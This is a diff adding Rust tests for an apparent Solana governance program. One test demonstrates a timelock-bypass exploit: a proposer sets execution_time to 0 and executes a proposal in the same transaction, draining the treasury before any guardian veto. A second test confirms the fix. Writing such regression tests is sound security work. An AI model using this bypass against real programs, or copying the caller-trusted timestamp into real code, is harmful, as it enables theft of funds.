@@ -0,0 +1,57 @@
+#[tokio::test]
+async fn test_backdated_execution_time_exploit() {
+    println!("\n=== EXPLOIT: Proposal Executed Without The Timelock ===\n");
+
+    let mallory = Keypair::new();
+    let council = create_council(&[mallory.pubkey()]).await;
+    let treasury = create_treasury(1_000 * LAMPORTS_PER_SOL).await;
+
+    println!("1. [create_proposal(execution_time = 0), execute_proposal]");
+    let proposal = Keypair::new();
+    // Vulnerable: execution_time taken from the proposer
+    send_transaction(
+        &[
+            create_proposal_ix(&council, &proposal, &mallory, &mallory.pubkey(), 1_000 * LAMPORTS_PER_SOL, 0),
+            execute_proposal_ix(&proposal, &treasury, &mallory.pubkey()),
+        ],
+        &[&mallory, &proposal],
+    )
+    .await
+    .unwrap();
+
+    assert!(get_proposal(&proposal.pubkey()).await.executed);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Treasury paid out before the guardian could veto");
+}
+
+#[tokio::test]
+async fn test_execution_time_from_clock() {
+    println!("\n=== SECURITY: Execution Time Set By The Program ===\n");
+
+    let mallory = Keypair::new();
+    let guardian = Keypair::new();
+    let council = create_council_with_guardian(&[mallory.pubkey()], &guardian).await;
+    let treasury = create_treasury(1_000 * LAMPORTS_PER_SOL).await;
+
+    println!("1. Create and execute in one transaction");
+    let proposal = Keypair::new();
+    let now = get_unix_timestamp().await;
+    create_proposal(&council, &proposal, &mallory, &mallory.pubkey(), 1_000 * LAMPORTS_PER_SOL)
+        .await
+        .unwrap();
+    assert_eq!(
+        get_proposal(&proposal.pubkey()).await.execution_time,
+        now + MIN_TIMELOCK_SECONDS
+    );
+    let result = execute_proposal(&proposal.pubkey(), &treasury, &mallory.pubkey()).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: TimelockActive");
+
+    println!("\n2. Guardian vetoes during the window");
+    veto(&council, &proposal.pubkey(), &guardian).await.unwrap();
+    warp_forward_seconds(MIN_TIMELOCK_SECONDS).await;
+    let result = execute_proposal(&proposal.pubkey(), &treasury, &mallory.pubkey()).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: Vetoed");
+}